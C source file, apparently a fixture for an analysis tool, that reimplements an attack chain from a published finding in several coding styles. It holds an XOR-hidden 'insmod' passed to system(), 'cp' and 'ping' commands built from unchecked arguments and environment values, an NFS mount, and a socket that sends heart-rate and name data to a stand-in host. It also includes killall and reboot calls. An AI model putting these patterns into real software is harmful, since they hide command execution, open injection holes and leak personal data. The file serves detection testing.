/* A chain as in the published finding, in several styles of writing it. Expected calls stand in chain.expected.py. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static int descriptor;
static const char *const shares[] = {"192.0.2.10:/mnt/first", "192.0.2.11:/mnt/second"};
static unsigned char secret[] = {'i' ^ 0x21, 'n' ^ 0x21, 's' ^ 0x21, 'm' ^ 0x21, 'o' ^ 0x21, 'd' ^ 0x21, 0};

__attribute__((noinline)) void run(const char *text) { system(text); }
__attribute__((noinline)) void run_twice(const char *verb, const char *what) {
    char line[100];
    sprintf(line, "%s %s", verb, what);
    run(line);
}
__attribute__((noinline)) void run_deep(const char *what) { run_twice("killall", what); }
__attribute__((noinline)) void joined(const char *name) {
    char line[128];
    strcpy(line, "cp /mnt/");
    strcat(line, name);
    strcat(line, " /opt/bin");
    system(line);
}
__attribute__((noinline)) void hidden(void) {
    char line[16];
    int i;
    for (i = 0; secret[i]; i++)
        line[i] = secret[i] ^ 0x21;
    line[i] = 0;
    system(line);
}
__attribute__((noinline)) void mounts(int n) {
    if (n == 3)
        mount(shares[1], "/mnt", "nfs", 0, "nolock");
}
__attribute__((noinline)) int dial(void) {
    struct sockaddr_in peer;
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(515);
    peer.sin_addr.s_addr = inet_addr("198.51.100.7");
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&peer, sizeof peer) < 0)
        return -1;
    descriptor = fd;
    return fd;
}
__attribute__((noinline)) void greet(void) {
    int fd = dial();
    send(fd, "hello", 5, 0);
}
__attribute__((noinline)) void report(int rate, const char *name) {
    char line[64];
    int n = snprintf(line, sizeof line, "HR=%d;NAME=%s", rate, name);
    write(descriptor, line, n);
}
__attribute__((noinline)) void datagram(int fd) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(9998), .sin_addr.s_addr = 0};
    unsigned char *byte = (unsigned char *)&peer.sin_addr;
    byte[0] = 203;
    byte[1] = 0;
    byte[2] = 113;
    byte[3] = 9;
    sendto(fd, "x", 1, 0, (struct sockaddr *)&peer, sizeof peer);
}
__attribute__((noinline)) void raise_interface(int fd) {
    struct ifreq request;
    memset(&request, 0, sizeof request);
    strncpy(request.ifr_name, "eth0", IFNAMSIZ);
    ioctl(fd, SIOCGIFFLAGS, &request);
    request.ifr_flags |= IFF_UP;
    ioctl(fd, SIOCSIFFLAGS, &request);
}
__attribute__((noinline)) void lower_interface(int fd) {
    struct ifreq request;
    memset(&request, 0, sizeof request);
    strcpy(request.ifr_name, "wlan0");
    request.ifr_flags = IFF_RUNNING;
    ioctl(fd, SIOCSIFFLAGS, &request);
}
__attribute__((noinline)) void chosen(int key) {
    switch (key) {
    case 1: rename("/tmp/a", "/opt/a"); break;
    case 2: unlink("/opt/b"); break;
    case 3: chmod("/opt/c", 0755); break;
    case 4: symlink("/opt/d", "/tmp/d"); break;
    case 5: execl("/bin/sh", "sh", "-c", "reboot", (char *)0); break;
    default: break;
    }
}
__attribute__((noinline)) void from_environment(void) {
    char line[200];
    snprintf(line, sizeof line, "ping -c %u %s", 4u, getenv("PEER"));
    system(line);
}
int main(int count, char **arguments) {
    run_deep("monitor");
    joined(arguments[1]);
    hidden();
    mounts(count);
    greet();
    report(count, arguments[0]);
    datagram(count);
    raise_interface(count);
    lower_interface(count);
    chosen(getchar());
    from_environment();
    return 0;
}
